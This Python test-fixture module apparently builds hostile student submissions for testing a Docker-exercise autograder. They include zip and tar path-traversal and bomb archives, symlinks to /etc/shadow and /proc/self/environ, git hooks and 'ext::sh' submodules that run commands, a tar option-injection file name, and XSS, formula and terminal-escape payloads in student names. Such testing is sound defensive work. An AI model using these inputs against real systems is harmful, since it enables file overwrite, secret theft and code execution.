"""Submissions that git cannot hold: too much, no text, odd names, pipes, links, bombs, archives that lie.

`MAKERS` has a function for each: it writes one student's submission into a folder, under a name (and an ending, for an
archive), and gives its path. The submission is right in all but what the maker's name says. Most are rows of a table
by what they change; contents are made when they are asked for, since some take a hundred MiB.
"""

from __future__ import annotations

import gzip
import io
import os
import socket
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

Maker = Callable[[Path, str], Path]
Files = Mapping[str, str | bytes]

EXERCISE = "3.1.4"
FROM = "FROM python:3.9-slim\n"
DOCKERFILE = FROM + 'COPY sales_predictor.py /app/\nENTRYPOINT ["python", "/app/sales_predictor.py"]\n'
SCRIPT = (
    "import sys\n"
    "if len(sys.argv) < 4:\n"
    '    sys.exit("Usage: sales_predictor.py <week1> <week2> <week3>")\n'
    "weeks = [float(word) for word in sys.argv[1:]]\n"
    'print(f"Predicted sales for next week: {sum(weeks) / len(weeks)}")\n'
)
RIGHT = {"Dockerfile": DOCKERFILE, "sales_predictor.py": SCRIPT}
"""A right submission, small and without network, to hide something in."""
MARK = "/tmp/grader-hostile-mark"
"""A file of the machine that must not come into being."""
MIB = 2**20


def right(into: Path, name: str, files: Files = RIGHT, exercise: str = EXERCISE) -> Path:
    """A student's folder with a submission in it; the exercise's folder comes back."""
    target = into / name / exercise
    target.mkdir(parents=True)
    for file, content in files.items():
        (target / file).parent.mkdir(parents=True, exist_ok=True)
        (target / file).write_bytes(content if isinstance(content, bytes) else content.encode())
        if file.startswith(".git/"):
            (target / file).chmod(0o755)
    return target


# ── files: what is in them is too much, or no text ──────────────────────────────────────


def after(text: str) -> Files:
    """The right Dockerfile with more after it."""
    return {"Dockerfile": DOCKERFILE + text}


def packed_script() -> bytes:
    """A packed tar with the script in it, which ADD unpacks."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        info = member("app/sales_predictor.py")
        info.size = len(SCRIPT)
        archive.addfile(info, io.BytesIO(SCRIPT.encode()))
    return buffer.getvalue()


# The kernel gives a program at most 128 KiB of each variable; this one has 133 100 bytes. No longer than that: BuildKit
# takes time that grows with the square of it, four times as much for 240 000 bytes.
HUGE_VARIABLE = f"ENV A={'x' * 1100}\nENV B={'$A' * 11}\nENV C={'$B' * 11}\n"

FILES: dict[str, Callable[[], Files]] = {
    "dockerignore_million_lines": lambda: {".dockerignore": "*.tmp\n" * 1_000_000},
    "dockerignore_redos": lambda: {".dockerignore": "*a" * 30 + "b\n" + "**/" * 40 + "z\n", "a" * 120: ""},
    "huge_dockerfile": lambda: after("# comment\n" * 10_000_000),
    "huge_line": lambda: after(f"LABEL x={'y' * 10_000_000}\n"),
    "million_instructions": lambda: after("EXPOSE 1\n" * 1_000_000),
    "many_instructions": lambda: after("".join(f"ENV A{number}=1\n" for number in range(10_000))),
    "many_layers": lambda: after("".join(f"COPY sales_predictor.py /{number}\n" for number in range(150))),
    "huge_environment": lambda: after(HUGE_VARIABLE),
    "long_word": lambda: after(f"ADD {'a' * 64_000} /x\n"),
    "words_of_installing": lambda: after(f"RUN false {'pip ' * 16_000}\n"),
    "spaced_directive": lambda: {"Dockerfile": f"# syntax=docker/dockerfile:1{' ' * 1_000_000}x\n{DOCKERFILE}"},
    "dockerfile_in_utf_16": lambda: {"Dockerfile": DOCKERFILE.encode("utf-16")},
    "dockerfile_with_zero_bytes": lambda: {"Dockerfile": DOCKERFILE.replace("COPY", "RUN echo a\0b\nCOPY")},
    "dockerfile_in_latin_1": lambda: {"Dockerfile": b"# Gr\xfc\xdfe\n" + DOCKERFILE.encode()},
    "folder_of_many_files": lambda: {f"{number:06}": "" for number in range(2100)},
    "local_archive_added": lambda: {
        "Dockerfile": FROM + 'ADD app.tar.gz /\nENTRYPOINT ["python", "/app/sales_predictor.py"]\n',
        "app.tar.gz": packed_script(),
    },
    "names_of_all_alphabets": lambda: dict.fromkeys(
        ("Größe der Läden.txt", "销售.csv", "📈 chart.md", "notes (final) [2].txt", "a" * 190), "x\n"
    ),
    "git_with_hooks": lambda: {
        ".git/config": f'[core]\n\tfsmonitor = "touch {MARK}"\n[filter "x"]\n\tsmudge = touch {MARK}\n',
        ".git/hooks/post-checkout": f"#!/bin/sh\ntouch {MARK}\n",
        ".git/HEAD": "ref: x\n",
        ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = "ext::sh -c touch% {MARK}"\n\tupdate = !touch {MARK}\n',
        ".gitattributes": "* filter=x\n",
    },
}
"""Files of 3.1.4 that are added or changed."""

LOCKED = {
    "Dockerfile": FROM + "COPY sales_predictor.py /app/\nCMD python /app/sales_predictor.py\n",
    "sales_predictor.py": SCRIPT,
    "pyproject.toml": '[tool.poetry]\nname = "x"\nversion = "1"\n[tool.poetry.dependencies]\npython = "^3.9"\n',
}
LOCKS = {
    "lock_file_nested": lambda: "x = " + "[" * 100_000 + "]" * 100_000,
    "lock_file_huge_number": lambda: "x = " + "9" * 1_000_000,
    "lock_file_of_another_shape": lambda: "package = 5\n",
}
"""poetry.lock of 3.2.P."""
SOURCES = {
    "source_nested": lambda: "import pandas\nx = " + "(" * 100_000 + ")" * 100_000 + "\n",
    "source_added": lambda: "import pandas\nx = pandas.Series().mean(" + "1+" * 2000 + "1)\n",
    "source_of_calls": lambda: "import pandas\ndef f(a): pass\n" + "f(1)\n" * 38_000,
    "source_with_zero": lambda: "import pandas\nx = 1\0\n",
}
"""The script of 3.2.2."""
COMPOSED = {
    "Dockerfile": LOCKED["Dockerfile"],
    "sales_predictor.py": 'print("Predicted sales for next week:", sum(map(float, open("/app/sales.txt"))) / 3)\n',
    "sales.txt": "1\n2\n3\n",
}
SERVICES = 'services: {predictor: {build: ., volumes: ["./sales.txt:/app/sales.txt"]}}\n'
COMPOSE_FILES = {
    "compose_file_nested": lambda: f"x-a: {'[' * 5000}{']' * 5000}\n{SERVICES}",
    "compose_file_huge_number": lambda: f"x-a: [1e9999, {'9' * 1_000_000}]\n{SERVICES}",
}
"""docker-compose.yml of 3.3.3, which is right but for its first line."""


# ── names, kinds and links ──────────────────────────────────────────────────────────────

NAMES = {
    "name_in_latin_1": b"gr\xfc\xdfe.txt",
    "name_with_a_line_break": b"one\ntwo.txt",
    "name_like_an_option": b"--checkpoint-action=exec=sh evil.sh",
    "name_that_steers_a_terminal": b"\x1b]0;owned\x07\x1b[2J.txt",
    "name_that_turns_around": "Dockerfile-\u202etxt.exe".encode(),
    "name_of_255_bytes": b"n" * 255,
    "name_of_a_device": b"CON",
    "names_in_two_cases": b"dockerfile",
}
"""Of one more file."""

LINKS = {
    "dockerfile_is_a_link": ("Dockerfile", "/etc/shadow"),
    "dockerfile_is_a_link_without_end": ("Dockerfile", "/dev/zero"),
    "script_is_a_link": ("sales_predictor.py", "/proc/self/environ"),
    "dockerignore_is_a_link_without_end": (".dockerignore", "/dev/zero"),
    "link_to_a_siblings_file": ("notes.txt", f"../../00-sibling/{EXERCISE}/notes.txt"),
    "link_within_the_folder": ("same.py", "sales_predictor.py"),
    "submission_is_a_link": ("..", "00-sibling"),
    "exercise_is_a_link": ("", f"../00-sibling/{EXERCISE}"),
}
"""A path of the exercise's folder that is a link, and where it leads."""

PIPES = {"a_pipe": "pipe", "a_pipe_for_a_dockerfile": "Dockerfile", "a_pipe_for_a_dockerignore": ".dockerignore"}

STUDENTS = {
    "student_named_like_markup": "<img src=x onerror=alert(1)>",
    "student_named_like_a_formula": '=HYPERLINK("http:evil","marks")',
    "student_named_like_another_row": 'eve",3.1.4,passed,10\n00-sibling,3.1.4,failed',
    "student_named_like_a_terminal": "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b31m\u202eeve",
    "student_named_like_a_path": "eve\\..\\..\\report.html",
    "student_named_index": "index",
    "student_with_a_name_of_250_bytes": "e" * 250,
    "student_with_a_name_in_latin_1": os.fsdecode(b"Ren\xe9"),
}
"""Names of students who print something other than the prediction."""


def replaced(target: Path, make: Callable[[Path], object]) -> Path:
    """A path in the place of what is there."""
    if target.is_dir():
        for file in target.iterdir():
            file.unlink()
        target.rmdir()
    target.unlink(missing_ok=True)
    make(target)
    return target


def linked(into: Path, name: str, file: str, leads_to: str) -> Path:
    if file == "..":
        (into / name).symlink_to(into / leads_to)
    else:
        replaced(right(into, name) / file, lambda path: path.symlink_to(leads_to))
    return into / name


def deep_folder(into: Path, name: str) -> Path:
    """Fifteen hundred folders within each other, made one by one: their path is longer than the kernel takes."""
    here = os.open(right(into, name), os.O_DIRECTORY)
    for _ in range(1500):
        os.mkdir("deep", dir_fd=here)
        below = os.open("deep", os.O_DIRECTORY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)
    return into / name


def a_socket(into: Path, name: str) -> Path:
    here = os.open(right(into, name), os.O_DIRECTORY)
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(f"/proc/self/fd/{here}/socket")  # a path that is short enough for a socket
    os.close(here)
    return into / name


def a_device_on_disk(into: Path, name: str) -> Path:
    """/dev/zero as a file of the folder, or, where this user may not make one, a pipe."""
    target = right(into, name) / "zero"
    try:
        os.mknod(target, 0o644 | stat.S_IFCHR, os.makedev(1, 5))
    except PermissionError:
        os.mkfifo(target)
    return into / name


def set_user_id(into: Path, name: str) -> Path:
    (right(into, name) / "sales_predictor.py").chmod(0o6755)
    return into / name


def holes(into: Path, name: str) -> Path:
    with (right(into, name) / "holes").open("wb") as file:
        file.truncate(2**40)
    return into / name


# ── zips ────────────────────────────────────────────────────────────────────────────────


def zipped(into: Path, name: str, members: Files) -> Path:
    """A zip with a right submission and these members besides."""
    path = into / f"{name}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for file, text in RIGHT.items():
            archive.writestr(f"{EXERCISE}/{file}", text)
        for file, content in members.items():
            archive.writestr(zipfile.ZipInfo(file), content, zipfile.ZIP_DEFLATED, compresslevel=1)
    return path


def of_overlapping_members(content: bytes) -> bytes:
    """Five hundred entries of the list all point at one member of a MiB."""
    start, end = content.index(b"PK\x01\x02"), content.index(b"PK\x05\x06")
    last = content[content.rindex(b"PK\x01\x02", start, end) : end]
    entries = (last.replace(b"zeros", f"{number:05}".encode()) for number in range(500))  # names of the same length
    listing = content[start:end] + b"".join(entries)
    return content[:start] + listing + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 503, 503, len(listing), start, 0)


def as_encrypted(content: bytes) -> bytes:
    """All members say that they are."""
    marked = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = marked.find(mark)
        while at >= 0:
            marked[at + place] |= 1
            at = marked.find(mark, at + 4)
    return bytes(marked)


def corrupted(content: bytes) -> bytes:
    return bytes(byte ^ 0x55 if at in range(30, 400, 7) else byte for at, byte in enumerate(content))


def with_a_wrong_tar_before(content: bytes) -> bytes:
    """A wrong tar from its start and a right zip from its end; its name says zip, and so it is read."""
    wrong = io.BytesIO()
    with tarfile.open(fileobj=wrong, mode="w") as archive:
        archive.addfile(member(f"{EXERCISE}/Dockerfile"))
    return wrong.getvalue() + content


def as_it_is(content: bytes) -> bytes:
    return content


ZIPS: dict[str, tuple[Callable[[], Files], Callable[[bytes], bytes]]] = {
    "zip_slip": (lambda: {"../../escaped-by-zip-slip": b"out"}, as_it_is),
    "zip_absolute": (lambda: {MARK: b"out"}, as_it_is),
    "zip_drive_letter": (lambda: {"C:\\Windows\\evil.exe": b"out"}, as_it_is),
    "zip_backslashes": (lambda: {f"{EXERCISE}\\..\\..\\..\\escaped": b"out"}, as_it_is),
    "zip_bomb": (lambda: {f"{EXERCISE}/zeros{number}": bytes(30 * MIB) for number in range(5)}, as_it_is),
    "zip_of_many_files": (lambda: {f"{EXERCISE}/{number:0180}": b"" for number in range(18_000)}, as_it_is),
    "zip_overlapping": (lambda: {f"{EXERCISE}/zeros": bytes(MIB)}, of_overlapping_members),
    "zip_lying_about_sizes": (
        lambda: {f"{EXERCISE}/zeros": bytes(100 * MIB)},
        lambda content: content.replace(struct.pack("<L", 100 * MIB), struct.pack("<L", 10)),
    ),
    # Two members of one name: which one counts depends on who unpacks.
    "dockerfiles_that_clash_in_a_zip": (lambda: {f"{EXERCISE}/./Dockerfile": "FROM registry.invalid/evil\n"}, as_it_is),
    # Written as another name of the same length, in the member's own head and in the list at the end.
    "name_with_a_zero_byte": (
        lambda: {f"{EXERCISE}/notes.txt~.py": b"x\n"},
        lambda content: content.replace(b"notes.txt~.py", b"notes.txt\0.py"),
    ),
    "encrypted": (dict, as_encrypted),
    "corrupt": (lambda: {f"{EXERCISE}/notes.txt": os.urandom(1000)}, corrupted),
    "zip_and_tar_in_one": (dict, with_a_wrong_tar_before),
}
"""What is in the zip besides a right submission, and what is done to its bytes."""


def nested_archives(into: Path, name: str) -> Path:
    content = b"".join(text.encode() for text in RIGHT.values())
    for level in range(10):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(f"level{level}.zip", content)
        content = buffer.getvalue()
    (into / f"{name}.zip").write_bytes(content)
    return into / f"{name}.zip"


def zip_without_rights(into: Path, name: str) -> Path:
    """Members that nobody may read, were they unpacked as they say."""
    path = into / f"{name}.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for file, text in RIGHT.items():
            info = zipfile.ZipInfo(f"{EXERCISE}/{file}")
            info.external_attr = stat.S_IFREG << 16
            archive.writestr(info, text)
    return path


def zip_in_a_folder_of_a_folder(into: Path, name: str) -> Path:
    """As a Mac packs a folder that was unpacked into another, with what it leaves behind."""
    path = into / f"{name}.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for file, text in RIGHT.items():
            archive.writestr(f"work/work/{EXERCISE}/{file}", text)
            archive.writestr(f"__MACOSX/work/work/{EXERCISE}/._{file}", zlib.compress(b"x"))
    return path


# ── tars ────────────────────────────────────────────────────────────────────────────────


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", device: tuple[int, int] = (0, 0)) -> tarfile.TarInfo:
    """A member of a tar, without content."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    info.devmajor, info.devminor = device
    return info


def tarred(into: Path, name: str, suffix: str, *members: tarfile.TarInfo) -> Path:
    """A tar with a right submission and these members besides."""
    path = into / f"{name}{suffix}"
    with tarfile.open(path, "w:gz" if suffix.endswith("gz") else "w", format=tarfile.GNU_FORMAT) as archive:
        for file, text in RIGHT.items():
            info = tarfile.TarInfo(f"{EXERCISE}/{file}")
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
        for info in members:
            archive.addfile(info)
    return path


TARS: dict[str, tuple[str, tuple[tarfile.TarInfo, ...]]] = {
    "tar_slip": (".tar.gz", (member("../../escaped-by-tar-slip"),)),
    "tar_link_then_file": (
        ".tar",
        (member(f"{EXERCISE}/x", tarfile.SYMTYPE, "/etc"), member(f"{EXERCISE}/x/cron.d/grader-hostile")),
    ),
    "tar_hard_link": (
        ".tar",
        (
            member(f"{EXERCISE}/a/b/link", tarfile.SYMTYPE, "../../../../../etc/passwd"),
            member(f"{EXERCISE}/hard", tarfile.LNKTYPE, f"{EXERCISE}/a/b/link"),
        ),
    ),
    "deep_tar": (".tar", (member(f"{EXERCISE}/{'d/' * 1500}file"),)),
    "long_path": (".tar", (member(f"{EXERCISE}/{'long-name' * 20}/" + "x" * 4200),)),
    # /dev/zero: to make one on this machine takes rights.
    "a_device": (".tar", (member(f"{EXERCISE}/zero", tarfile.CHRTYPE, device=(1, 5)),)),
    "tar_with_holes": (".tar", (member(f"{EXERCISE}/holes", tarfile.GNUTYPE_SPARSE),)),
}
"""The ending of a tar, and what is in it besides a right submission."""


def tar_gz_bomb(into: Path, name: str) -> Path:
    """Two hundred MiB of zeros."""
    path = into / f"{name}.tar.gz"
    info = member(f"{EXERCISE}/zeros")
    info.size = 200 * MIB
    with gzip.open(path, "wb", compresslevel=1) as packed:
        packed.write(info.tobuf(tarfile.GNU_FORMAT))
        for _ in range(200):
            packed.write(bytes(MIB))
    return path


def cut_off(into: Path, name: str) -> Path:
    path = tarred(into, name, ".tar.gz")
    path.write_bytes(path.read_bytes()[:150])
    return path


def alone(into: Path, name: str, ending: str, content: bytes) -> Path:
    """A file that is no archive."""
    (into / f"{name}{ending}").write_bytes(content)
    return into / f"{name}{ending}"


# ── all of them ─────────────────────────────────────────────────────────────────────────


def changed(files: Callable[[], Files], base: Files = RIGHT, exercise: str = EXERCISE) -> Maker:
    return lambda into, name: right(into, name, {**base, **files()}, exercise).parent


def with_one(file: str, content: Callable[[], str], base: Files = RIGHT, exercise: str = EXERCISE) -> Maker:
    return changed(lambda: {file: content()}, base, exercise)


def link(file: str, leads_to: str) -> Maker:
    return lambda into, name: linked(into, name, file, leads_to)


def pipe(file: str) -> Maker:
    return lambda into, name: replaced(right(into, name) / file, os.mkfifo).parent.parent


def student(student_name: str) -> Maker:
    files = {**RIGHT, "sales_predictor.py": f"print({student_name!r})\n"}
    return lambda into, _: right(into, student_name, files).parent


def patched(members: Callable[[], Files], patch: Callable[[bytes], bytes]) -> Maker:
    def make(into: Path, name: str) -> Path:
        path = zipped(into, name, members())
        path.write_bytes(patch(path.read_bytes()))
        return path

    return make


def tar(ending: str, members: tuple[tarfile.TarInfo, ...]) -> Maker:
    return lambda into, name: tarred(into, name, ending, *members)


OTHERS: tuple[Maker, ...] = (
    *(deep_folder, a_socket, a_device_on_disk, set_user_id, holes),
    *(nested_archives, zip_without_rights, zip_in_a_folder_of_a_folder, tar_gz_bomb, cut_off),
)

MAKERS: dict[str, Maker] = {
    **{make: changed(files) for make, files in FILES.items()},
    **{make: with_one("poetry.lock", lock, LOCKED, "3.2.P") for make, lock in LOCKS.items()},
    **{make: with_one("sales_predictor.py", source, exercise="3.2.2") for make, source in SOURCES.items()},
    **{make: with_one("docker-compose.yml", text, COMPOSED, "3.3.3") for make, text in COMPOSE_FILES.items()},
    **{make: with_one(os.fsdecode(file), lambda: "x\n") for make, file in NAMES.items()},
    **{make: link(*row) for make, row in LINKS.items()},
    **{make: pipe(file) for make, file in PIPES.items()},
    **{make: student(name) for make, name in STUDENTS.items()},
    **{make: patched(*row) for make, row in ZIPS.items()},
    **{make: tar(*row) for make, row in TARS.items()},
    "empty_archive": lambda into, name: alone(into, name, ".zip", b""),
    "unknown_archive": lambda into, name: alone(into, name, ".rar", b"Rar!\x1a\x07\x00"),
    **{maker.__name__: maker for maker in OTHERS},
}
"""The functions that write submissions, by the names that `case.yaml` has for them."""
